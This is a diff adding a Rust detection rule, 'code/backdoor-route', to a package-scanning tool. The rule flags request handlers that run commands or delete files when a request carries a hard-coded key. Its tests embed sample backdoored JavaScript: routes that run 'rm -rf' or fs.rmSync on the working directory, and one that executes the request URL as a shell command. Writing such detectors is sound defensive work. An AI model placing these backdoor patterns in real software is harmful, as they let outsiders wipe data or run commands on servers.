@@ -1,0 +1,115 @@
+//! `code/backdoor-route`.
+
+use super::{chain, finding, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// An HTTP request handler that runs commands, evaluates code or deletes files when the request carries a hard-coded key.
+    ///
+    /// ## What it detects
+    /// Inside a function registered as a request handler (`app.post('/path', …, (req, res) => …)`,
+    /// `router.use((req, res, next) => …)`, `http.createServer((req, res) => …)`, `server.on('request', …)`): a
+    /// field of the request — a header, or a body, query, parameter or cookie field named like a credential
+    /// (`key`, `token`, `secret`, `pass`, `auth`, `sig`) — compared with a string literal, followed in the same
+    /// handler by a process spawn (`exec`, `spawn`), code evaluation (`eval`, `Function`, `vm`) or a file delete.
+    ///
+    /// ## Why it matters
+    /// A middleware package that the application mounts turns the application's own server into the attacker's
+    /// remote control: express-api-sync and system-health-sync-api (2025) registered an undocumented route that
+    /// wiped the application folder (`rm -rf`) when a request carried a fixed key. Nothing happens at install or
+    /// import, no data flows out to look at: only an inbound request triggers it.
+    ///
+    /// ## Example
+    /// `router.post('/_internal/sync', (req, res) => { if (req.body.key === 'DEFAULT_123') exec('rm -rf ' + dir) })`
+    ///
+    /// ## Known false positives
+    /// Health and admin middleware report status and compare tokens with configuration (`process.env.ADMIN_TOKEN`),
+    /// not literals, and run no commands: not reported. A development server that runs a tool behind a fixed
+    /// header (`x-requested-with`) would be; such servers rarely compare a header with a constant before spawning.
+    pub static BACKDOOR_ROUTE = { id: "code/backdoor-route", severity: Severity::Critical };
+}
+
+/// One finding per keyed action.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    per_signal(p, Kind::KeyedRoute, |f, s| {
+        Some(finding(
+            &BACKDOOR_ROUTE,
+            BACKDOOR_ROUTE.default_severity,
+            f,
+            s,
+            Locality::Function,
+            s.detail.clone(),
+            chain(p, f, s, &[Kind::Spawn, Kind::DestructiveFs]),
+        ))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::Verdict;
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    #[test]
+    fn positive_hidden_route_with_key() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const { exec } = require('child_process');\nmodule.exports = function health(router) {\n  router.post('/api/_internal/sync', (req, res) => {\n    if (req.body && req.body.key === 'DEFAULT_123') {\n      exec('rm -rf ' + process.cwd(), () => res.end());\n      return;\n    }\n    res.status(404).end();\n  });\n  return router;\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 5)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    #[test]
+    fn positive_header_key_on_plain_server() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const http = require('http');\nconst cp = require('child_process');\nexports.start = () => http.createServer((req, res) => {\n  if (req.headers['x-debug-key'] == 'letmein-42') cp.execSync(String(req.url).slice(1));\n  res.end('ok');\n}).listen(8080);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 4)]
+        );
+    }
+
+    /// A named handler, the key destructured from the body, a recursive delete.
+    #[test]
+    fn positive_named_handler_destructured_key() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nfunction onSync(req, res) {\n  const { token } = req.body;\n  if (token !== 'k-7f3a9') return res.end();\n  fs.rmSync(process.cwd(), { recursive: true, force: true });\n  res.end();\n}\nmodule.exports = (app) => app.post('/sync', onSync);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("index.js".to_string(), 5)]
+        );
+    }
+
+    /// Admin/health middleware: token from configuration, status only.
+    #[test]
+    fn negative_admin_status_middleware() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const os = require('os');\nmodule.exports = (router) => {\n  router.get('/admin/status', (req, res) => {\n    if (req.headers['x-admin-token'] !== process.env.ADMIN_TOKEN) return res.status(401).end();\n    res.json({ load: os.loadavg(), uptime: process.uptime() });\n  });\n  router.post('/admin/action', (req, res) => {\n    if (req.body.action === 'reload') res.json({ ok: true });\n  });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/backdoor-route").is_empty());
+        assert_eq!(s.verdict, Verdict::Clean);
+    }
+}
